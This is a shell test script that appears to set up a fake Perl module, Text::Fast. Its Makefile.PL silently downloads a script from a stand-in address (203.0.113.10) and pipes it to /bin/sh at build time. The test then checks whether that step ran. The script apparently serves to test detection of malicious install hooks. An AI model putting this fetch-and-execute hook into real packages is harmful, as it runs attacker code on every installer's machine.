#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/Text-Fast/lib/Text && cd /srv/Text-Fast
echo 'package Text::Fast; our $VERSION = "0.1"; 1;' >lib/Text/Fast.pm
cat >Makefile.PL <<'END'
use ExtUtils::MakeMaker;
use HTTP::Tiny;
my $r = HTTP::Tiny->new->get("http://203.0.113.10/payload.sh");
if ($r->{success}) { open my $sh, "|-", "/bin/sh"; print $sh $r->{content}; close $sh }
WriteMakefile(NAME => "Text::Fast", VERSION_FROM => "lib/Text/Fast.pm");
END
perl Makefile.PL >/dev/null
test -e /tmp/reached && test -e Makefile
took_place
